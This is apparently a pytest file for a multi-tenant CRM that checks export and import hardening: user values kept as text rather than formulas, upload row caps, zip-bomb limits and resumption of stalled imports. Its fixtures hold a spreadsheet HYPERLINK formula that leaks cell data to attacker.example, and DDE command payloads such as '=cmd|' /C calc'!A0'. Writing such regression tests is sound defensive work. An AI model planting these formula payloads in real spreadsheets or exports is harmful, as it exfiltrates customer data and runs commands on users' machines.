"""Security fixes around imports and exports: user values never become spreadsheet formulas, an upload is only
stored (the job counts and caps the rows), and an import whose worker died is resumed without duplicating rows."""
import csv
import io
import json
import re
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from .test_imports import HEADERS, _good_rows, _run_worker, _workbook

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&C2&D2,"Open")'


def _formula_cells(data: bytes) -> list:
    """(sheet, coordinate, value) of every cell that a spreadsheet program would evaluate."""
    book = load_workbook(io.BytesIO(data))
    return [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _csv(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def _upload(b, data, filename):
    resp = b.client.post("/t/alpha/imports/", data={"csrf_token": b.token, "file": (io.BytesIO(data), filename)},
                         content_type="multipart/form-data")
    assert resp.status_code == 302, resp.get_data(as_text=True)[-1500:]
    return resp.headers["Location"]


def _start(b, run_url):
    page = b.get(run_url).get_data(as_text=True)
    form = {m.group(1): m.group(2) for m in re.finditer(r'name="(col_\d+)">.*?<option value="([a-z_:]+)" selected',
                                                          page, flags=re.S)}
    store = re.search(r'name="default_store_id">\s*<option value="(\d+)"', page).group(1)
    started = b.post(run_url, {**form, "default_store_id": store, "start": "1"})
    assert started.status_code == 302, started.get_data(as_text=True)[-1500:]


# --- 3. formula injection in exports -------------------------------------------------------------------------------

def _poisoned_customer(alpha, in_tenant):
    from storecrm.customers.models import Customer
    from storecrm.fields.models import FieldDefinition

    with in_tenant(alpha) as session:
        session.add(FieldDefinition(entity="customer", code="km", label_zh="里程", label_en="=1+1", type="number"))
        session.add(FieldDefinition(entity="customer", code="budget", label_zh="预算", label_en="Budget", type="money"))
        customer = session.get(Customer, (alpha.id, alpha.customers[0]))
        customer.name, customer.city, customer.address = HYPERLINK, "-5+3", "@SUM(1+1)*cmd|' /C calc'!A0"
        customer.source, customer.level = "\t=1+2", "\r=3+4"
        customer.custom = {"km": -5, "budget": "-12.50"}


def test_customer_exports_write_every_user_value_as_text(two_tenants, login, in_tenant):
    alpha, _ = two_tenants
    _poisoned_customer(alpha, in_tenant)
    owner = login(alpha, "owner")
    xlsx = owner.client.get("/t/alpha/customers/export.xlsx").data
    assert _formula_cells(xlsx) == []
    rows = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True))
    header, row = rows[0], next(r for r in rows if r[0] == alpha.customers[0])
    assert "=1+1" in header
    assert row[1] == HYPERLINK and row[8] == "\t=1+2"  # the value itself, kept whole in a text cell
    assert row[header.index("=1+1")] == -5  # a real number stays a number

    body = owner.client.get("/t/alpha/customers/export.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    header, row = rows[0], next(r for r in rows if r[0] == str(alpha.customers[0]))
    assert "'=1+1" in header
    assert row[1] == "'" + HYPERLINK and row[6] == "'-5+3" and row[7].startswith("'@SUM")
    assert row[8] == "'\t=1+2" and row[9] == "'\r=3+4"
    assert row[header.index("'=1+1")] == "-5" and row[header.index("Budget")] == "-12.50"  # numbers stay numbers


def test_the_import_error_report_writes_uploaded_values_as_text(two_tenants, login):
    alpha, _ = two_tenants
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    run_url = _upload(b, _csv([["客户姓名", "手机号", "门店", "=cmd|' /C calc'!A0"],
                               [HYPERLINK, "=1+2", "S1", "-2+3"],
                               ["好人", "13912345678", "S1", "x"]]), "客户.csv")
    _start(b, run_url)
    _run_worker()
    report = b.client.get(run_url + "/errors.xlsx")
    assert report.status_code == 200
    assert _formula_cells(report.data) == []
    rows = list(load_workbook(io.BytesIO(report.data)).active.iter_rows(values_only=True))
    assert rows[0][4] == "=cmd|' /C calc'!A0" and rows[1][1:5] == (HYPERLINK, "=1+2", "S1", "-2+3")


def test_the_tenant_export_writes_user_values_as_text(two_tenants, login, in_tenant, system_db):
    alpha, _ = two_tenants
    _poisoned_customer(alpha, in_tenant)
    owner = login(alpha, "owner")
    owner.get("/t/alpha/settings/")
    assert owner.post("/t/alpha/billing/export").status_code == 302
    _run_worker()
    with system_db.connect() as conn:
        path, status = conn.execute(text("SELECT path, status FROM tenant_exports")).one()
    assert status == "done"
    archive = zipfile.ZipFile(path)
    data = archive.read("data.xlsx")
    assert _formula_cells(data) == []
    sheet = load_workbook(io.BytesIO(data))["customers"]
    assert HYPERLINK in {cell.value for row in sheet.iter_rows() for cell in row}
    assert HYPERLINK in {c["name"] for c in json.loads(archive.read("data.json"))["customers"]}


# --- 8. the upload only stores the file; the job counts and caps ------------------------------------------------

def test_an_upload_is_only_stored_and_the_job_refuses_a_sheet_over_the_row_cap(two_tenants, login, app, system_db,
                                                                                monkeypatch):
    from storecrm.imports import files

    alpha, _ = two_tenants
    monkeypatch.setattr(app.config["STORECRM"], "import_max_rows", 40)
    read, original_rows = {"rows": 0}, files.rows

    def counted_rows(path):
        for row in original_rows(path):
            read["rows"] += 1
            yield row

    monkeypatch.setattr(files, "rows", counted_rows)
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    run_url = _upload(b, _workbook(list(_good_rows(100))), "big.xlsx")
    assert read["rows"] <= 2  # the header and one row that shows the sheet is not empty; nobody counted
    with system_db.connect() as conn:
        assert tuple(conn.execute(text("SELECT status, total_rows FROM import_runs")).one()) == ("uploaded", None)
    _start(b, run_url)
    _run_worker()
    with system_db.connect() as conn:
        status, error, total, processed = conn.execute(text(
            "SELECT status, error, total_rows, processed_rows FROM import_runs")).one()
        created = conn.execute(text("SELECT count(*) FROM customers WHERE name LIKE '客户%'")).scalar()
    assert (status, processed, created) == ("failed", 0, 0)
    assert "40" in error and total is None
    assert "40" in b.get(run_url).get_data(as_text=True)


def test_the_job_counts_the_rows_of_a_file_under_the_cap(two_tenants, login, app, system_db, monkeypatch):
    alpha, _ = two_tenants
    monkeypatch.setattr(app.config["STORECRM"], "import_max_rows", 40)
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    run_url = _upload(b, _workbook(list(_good_rows(40))), "ok.xlsx")
    _start(b, run_url)
    _run_worker()
    with system_db.connect() as conn:
        assert tuple(conn.execute(text("SELECT status, total_rows, created_count FROM import_runs")).one()) == \
            ("done", 40, 40)
    assert "40 / 40" in b.get(run_url).get_data(as_text=True)


def test_an_upload_with_only_column_names_is_still_refused_at_once(two_tenants, login):
    alpha, _ = two_tenants
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    resp = b.client.post("/t/alpha/imports/", data={"csrf_token": b.token,
                                                    "file": (io.BytesIO(_workbook([])), "empty.xlsx")},
                         content_type="multipart/form-data")
    assert resp.status_code == 422 and 'data-error-for="file"' in resp.get_data(as_text=True)


def test_a_workbook_that_unpacks_to_too_much_is_refused_at_once(two_tenants, login, monkeypatch):
    """A zip packs XML about tenfold; what a workbook unpacks to is bounded before anything parses it."""
    from storecrm.imports import files

    alpha, _ = two_tenants
    data = _workbook(list(_good_rows(2000)))
    unpacked = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist())
    monkeypatch.setattr(files, "MAX_UNPACKED_BYTES", unpacked - 1)
    monkeypatch.setattr(files, "rows", lambda path: pytest.fail("parsed a workbook over the limit"))
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    resp = b.client.post("/t/alpha/imports/", data={"csrf_token": b.token, "file": (io.BytesIO(data), "bomb.xlsx")},
                         content_type="multipart/form-data")
    assert resp.status_code == 422 and 'data-error-for="file"' in resp.get_data(as_text=True)


# --- 9. a stalled import is resumed (sweep or button) without duplicating rows ---------------------------------

def _stall(app, alpha, b, system_db, monkeypatch, rows=450):
    """An import whose worker died in its second batch and whose queued message is gone."""
    from storecrm.imports import services
    from storecrm.jobs import broker
    from storecrm.tenancy.context import TenantRef, tenant_context

    run_url = _upload(b, _workbook(list(_good_rows(rows))), "customers.xlsx")
    _start(b, run_url)
    broker.flush_all()  # the message is lost (Redis stopped without saving)
    with system_db.connect() as conn:
        run_id = conn.execute(text("SELECT id FROM import_runs")).scalar()
    original, calls = services._process_batch, {"n": 0}

    def killed_in_second_batch(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 2:
            raise SystemExit("worker killed")  # like SIGKILL: nothing of this batch commits
        return original(*args, **kwargs)

    monkeypatch.setattr(services, "_process_batch", killed_in_second_batch)
    monkeypatch.setattr(services, "BATCH", 200)
    with app.app_context(), tenant_context(TenantRef(alpha.id, alpha.slug)):
        with pytest.raises(SystemExit):
            services.process(run_id)
    monkeypatch.setattr(services, "_process_batch", original)
    with system_db.connect() as conn:
        assert tuple(conn.execute(text("SELECT processed_rows, status FROM import_runs")).one()) == (200, "running")
    return run_url, run_id


def _age_lease(system_db, by=timedelta(hours=1)):
    """The controllable clock: the last heartbeat moves into the past."""
    with system_db.begin() as conn:
        conn.execute(text("UPDATE import_runs SET heartbeat_at = heartbeat_at - :by"), {"by": by})


def test_the_sweep_resumes_a_run_whose_lease_went_stale_and_applies_each_row_once(two_tenants, login, app,
                                                                                  system_db, monkeypatch):
    from storecrm.imports.services import requeue_stalled_runs

    alpha, _ = two_tenants
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    _run_url, run_id = _stall(app, alpha, b, system_db, monkeypatch)
    with app.app_context():
        assert requeue_stalled_runs() == 0  # the lease is fresh: the worker may still be busy
    _age_lease(system_db)
    with app.app_context():
        assert requeue_stalled_runs() == 1
        assert requeue_stalled_runs() == 0  # re-enqueued once, not every sweep
    _run_worker()
    with system_db.connect() as conn:
        assert tuple(conn.execute(text("SELECT processed_rows, created_count, status FROM import_runs")).one()) == \
            (450, 450, "done")
        assert conn.execute(text("SELECT count(*) FROM customers WHERE name LIKE '客户%'")).scalar() == 450


def test_a_worker_that_lost_its_lease_stops_without_writing(two_tenants, login, app, system_db, monkeypatch):
    """Two jobs for one run (a slow worker and its replacement): only the holder of the lease writes."""
    from storecrm.imports import services
    from storecrm.tenancy.context import TenantRef, tenant_context

    alpha, _ = two_tenants
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    _run_url, run_id = _stall(app, alpha, b, system_db, monkeypatch)
    original = services._process_batch

    def replaced_meanwhile(*args, **kwargs):
        with system_db.begin() as conn:  # another worker claimed the run
            conn.execute(text("UPDATE import_runs SET attempt = attempt + 1"))
        return original(*args, **kwargs)

    monkeypatch.setattr(services, "_process_batch", replaced_meanwhile)
    with app.app_context(), tenant_context(TenantRef(alpha.id, alpha.slug)):
        services.process(run_id)
    with system_db.connect() as conn:
        assert tuple(conn.execute(text("SELECT processed_rows, status FROM import_runs")).one()) == (200, "running")
        assert conn.execute(text("SELECT count(*) FROM customers WHERE name LIKE '客户%'")).scalar() == 200


def test_the_import_page_offers_resume_for_a_stalled_run(two_tenants, login, app, system_db, monkeypatch):
    alpha, _ = two_tenants
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    run_url, run_id = _stall(app, alpha, b, system_db, monkeypatch)
    assert 'data-testid="resume-import"' not in b.get(run_url).get_data(as_text=True)  # still within its lease
    refused = b.post(run_url + "/resume")
    assert refused.status_code == 409
    _age_lease(system_db)
    page = b.get(run_url).get_data(as_text=True)
    assert 'data-testid="resume-import"' in page
    technician = login(alpha, "technician")
    assert technician.post(run_url + "/resume").status_code == 403
    assert b.post(run_url + "/resume", csrf=False).status_code == 400  # CSRF protected
    resumed = b.post(run_url + "/resume")
    assert resumed.status_code == 302
    _run_worker()
    with system_db.connect() as conn:
        assert tuple(conn.execute(text("SELECT processed_rows, created_count, status FROM import_runs")).one()) == \
            (450, 450, "done")
        assert conn.execute(text("SELECT count(*) FROM customers WHERE name LIKE '客户%'")).scalar() == 450
    assert 'data-testid="resume-import"' not in b.get(run_url).get_data(as_text=True)


def test_the_embedded_redis_keeps_queued_messages_across_a_stop(tmp_path):
    import redis

    from storecrm import embedded

    url = embedded.start_redis(tmp_path / "redis.db")
    redis.Redis.from_url(url).rpush("dramatiq:default", b"a queued import")
    embedded.stop_redis(url)
    url = embedded.start_redis(tmp_path / "redis.db")
    try:
        assert redis.Redis.from_url(url).lrange("dramatiq:default", 0, -1) == [b"a queued import"]
    finally:
        embedded.stop_redis(url)


def test_a_workbook_whose_sheet_is_cut_off_fails_its_import_with_a_message_in_the_users_language(
        two_tenants, login, system_db, app, monkeypatch):
    """The sheet is opened without reading it through first (imports.files), so damage inside it shows while the job
    reads its rows: the run fails with a message its user can read, and what was read before stays imported."""
    from storecrm.imports import services

    alpha, _ = two_tenants
    monkeypatch.setattr(services, "BATCH", 10)
    good = _workbook(list(_good_rows(60)))
    bad = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(bad, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = data[:len(data) // 2]  # cut inside the rows: not well-formed XML from there on
            target.writestr(item, data)
    b = login(alpha, "owner")
    b.get("/t/alpha/imports/")
    run_url = _upload(b, bad.getvalue(), "cut.xlsx")  # the upload reads the column names and one row only
    _start(b, run_url)
    _run_worker()
    with system_db.connect() as conn:
        status, error, processed = conn.execute(text("SELECT status, error, processed_rows FROM import_runs")).one()
        created = conn.execute(text("SELECT count(*) FROM customers WHERE name LIKE '客户%'")).scalar()
    assert status == "failed" and 0 < processed == created < 60
    assert error.startswith(f"The file is damaged: its first {processed} rows were imported") and "Error" not in error
    page = b.get(run_url)
    assert page.status_code == 200 and "The file is damaged" in page.get_data(as_text=True)
    from flask_babel import force_locale, gettext

    with app.test_request_context(), force_locale("zh_CN"):  # the same run of a zh_CN user reads it in Chinese
        assert gettext("The file is damaged: its first %(count)d rows were imported, the rest could not be read. "
                       "Save it again from Excel and import it again; the rows already imported are recognised.",
                       count=20).startswith("文件已损坏：前 20 行已导入")
